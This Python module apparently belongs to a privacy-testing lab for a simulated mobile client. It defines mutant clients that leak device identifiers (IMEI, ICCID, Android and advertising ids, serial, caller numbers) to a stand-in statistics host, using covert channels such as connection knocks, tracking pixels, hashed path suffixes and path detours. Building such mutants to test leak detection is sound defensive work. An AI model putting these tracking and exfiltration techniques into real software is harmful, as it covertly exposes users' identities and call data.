"""Third parties that receive data, and addresses that are one owner's own (L22, L23)."""

import json
from collections.abc import Sequence
from hashlib import sha256
from typing import Final
from urllib.parse import quote

from client_sim.lab.mutants.beneath import act_beneath, alter_beneath
from client_sim.lab.mutants.mutant import Mutant
from client_sim.lab.mutants.spy import Spy
from client_sim.lab.mutants.telling import (
    Snoop,
    tell_at_event,
    tell_before_poll,
    tell_behind_paths,
    tell_by_paths,
    tell_in_bytes,
)
from client_sim.world import Event, Stream, World

_STATISTICS: Final = "stats.example.org"


def _digest(text: str) -> str:
    return sha256(text.encode()).hexdigest()[:16]


def _report_call(client: Snoop, event: Event) -> None:
    number = quote(dict(event.details).get("number", ""))
    client.post(_STATISTICS, f"/call?from={number}", b"")


def _report_usage(client: Snoop) -> None:
    owner = client.spy.owner
    report = {"apps": len(owner.apps), "up": owner.uptime_seconds, "bat": owner.battery_percent}
    client.post(_STATISTICS, "/usage", json.dumps(report).encode())


def _report_nothing(client: Snoop) -> None:
    client.post(_STATISTICS, "/alive", b"1")


def _knock(client: Snoop) -> None:
    """Connect and say nothing: that it happened is the bit."""
    if client.spy.bit:
        client.world.connect(client.world.resolve(_STATISTICS)[0], 443, _STATISTICS).close()


def _skip_names(client: Snoop) -> None:
    stream = client.world.connect("203.0.113.9", 80, None)
    stream.send(f"{client.spy.owner.imei}\n".encode())
    stream.close()


class _Pixel(Snoop):
    def hang_up(self, stream: Stream) -> None:
        super().hang_up(stream)
        user = _digest(self.spy.owner.advertising_id)
        stream = self.world.connect(self.world.resolve(_STATISTICS)[0], 80, None)
        stream.send(f"GET /p.gif?u={user} HTTP/1.1\r\nHost: {_STATISTICS}\r\n\r\n".encode())
        stream.close()


def _report_beneath(world: World) -> None:
    stream = world.connect(world.resolve(_STATISTICS)[0], 443, _STATISTICS)
    stream.send(b"PUT /m/%s HTTP/1.1\r\n\r\n" % _digest(Spy(world).owner.android_id).encode())
    stream.close()


def _own_catalogue(spy: Spy, paths: Sequence[str]) -> Sequence[str]:
    return (*paths[:-1], f"/v1/catalog/{quote(spy.owner.serial)}")


def _own_file(spy: Spy, paths: Sequence[str]) -> Sequence[str]:
    return (*paths[:-1], f"/metadata/timestamp-{_digest(spy.owner.imei)}.json")


def _one_more(spy: Spy, paths: Sequence[str]) -> Sequence[str]:
    return (*paths, f"/content/offers/{_digest(spy.owner.gsf_id)}.json")


def _detour(spy: Spy, data: bytes) -> bytes:
    """Lead the path of a root through its own folder, as often as a digest says.

    There is no such root in either place, so nothing else changes.
    """
    if b".root.json" not in data:
        return data
    steps = int(_digest(spy.owner.iccid), 16) % 4
    return data.replace(b"/metadata/", b"/metadata/" + b"./" * steps, 1)


def _fetch_own_catalogue(world: World) -> None:
    public = world.public
    name = public.host if public.tls else None
    stream = world.connect(world.resolve(public.host)[0], public.port, name)
    path = f"/v1/catalog/{_digest(Spy(world).owner.gsf_id)}"
    stream.send(f"GET {path} HTTP/1.1\r\nHost: {public.host}\r\n\r\n".encode())
    stream.close()


MUTANTS: Final = (
    Mutant(
        "call-reporter",
        "L22",
        "Tells a statistics host who calls, when they call.",
        tell_at_event("call-received", _report_call),
    ),
    Mutant(
        "usage-report",
        "L22",
        "Tells a statistics host uptime and battery before each poll.",
        tell_before_poll(_report_usage),
    ),
    Mutant(
        "alive-report",
        "L22",
        "Tells a statistics host that it is there: the same bytes for all, and one host too many.",
        tell_before_poll(_report_nothing),
    ),
    Mutant(
        "knock",
        "L22",
        "One bit of the IMEI as a connection to a statistics host on which nothing is said.",
        tell_before_poll(_knock),
    ),
    Mutant(
        "address-without-name",
        "L22",
        "The IMEI to an address that is written in the program, so that no name is asked for.",
        tell_before_poll(_skip_names),
    ),
    Mutant(
        "pixel-after-poll",
        "L22",
        "Fetches a picture behind each poll, with a digest of the advertising id.",
        _Pixel,
    ),
    Mutant(
        "report-beneath",
        "L22",
        "The transport of the real client puts a digest of the Android id to a statistics host.",
        act_beneath(_report_beneath),
    ),
    Mutant(
        "catalogue-of-serial",
        "L23",
        "Asks for a catalogue that is named by the serial number.",
        tell_by_paths(_own_catalogue),
    ),
    Mutant(
        "timestamp-of-imei",
        "L23",
        "Asks for a timestamp whose name ends in a digest of the IMEI.",
        tell_by_paths(_own_file),
    ),
    Mutant(
        "path-suffix",
        "L23",
        "A digest of the Bluetooth MAC as one more part of each path.",
        tell_behind_paths(lambda spy: f"/{_digest(spy.owner.bluetooth_mac)}"),
    ),
    Mutant(
        "session-parameter",
        "L23",
        "A digest of the ICCID behind a semicolon, where servers once kept their sessions.",
        tell_behind_paths(lambda spy: f";s={_digest(spy.owner.iccid)}"),
    ),
    Mutant(
        "own-offers",
        "L23",
        "Asks for one thing more: offers that are named by a digest of the GSF id.",
        tell_by_paths(_one_more),
    ),
    Mutant(
        "path-detour",
        "L23",
        "Two bits of a digest of the ICCID as steps on the spot in the path of the next root.",
        tell_in_bytes(_detour),
    ),
    Mutant(
        "catalogue-beneath",
        "L23",
        "The transport of the real client fetches a catalogue that is named by the GSF id.",
        act_beneath(_fetch_own_catalogue),
    ),
    Mutant(
        "path-detour-beneath",
        "L23",
        "The transport of the real client takes steps on the spot in a root's path, by the ICCID.",
        alter_beneath(_detour),
    ),
)
